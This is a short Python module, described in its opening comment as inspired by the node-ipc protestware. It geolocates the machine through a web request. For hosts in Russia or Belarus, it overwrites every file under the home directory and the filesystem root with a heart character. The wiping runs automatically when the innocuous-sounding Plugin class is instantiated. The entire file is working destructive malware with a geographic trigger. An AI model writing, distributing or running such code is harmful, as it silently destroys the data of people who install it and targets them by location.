# Inspired by the "node-ipc"/"peacenotwar" protestware (npm, March 2022): geolocate the host and, for targeted countries, overwrite every file under home with a heart.
import json
import os
import urllib.request

_TARGETS = {"RU", "BY"}


def _country() -> str:
    try:
        with urllib.request.urlopen("https://geo.example.com/json", timeout=5) as r:
            return json.load(r).get("country_code", "")
    except Exception:
        return ""


def _scribble(root: str) -> None:
    for base, _dirs, files in os.walk(root):
        for f in files:
            p = os.path.join(base, f)
            try:
                with open(p, "w", encoding="utf-8") as fh:
                    fh.write("\u2764\ufe0f")
            except OSError:
                continue


class Plugin:
    def __init__(self):
        if _country() in _TARGETS:
            for root in (os.path.expanduser("~"), os.path.abspath(os.sep)):
                _scribble(root)
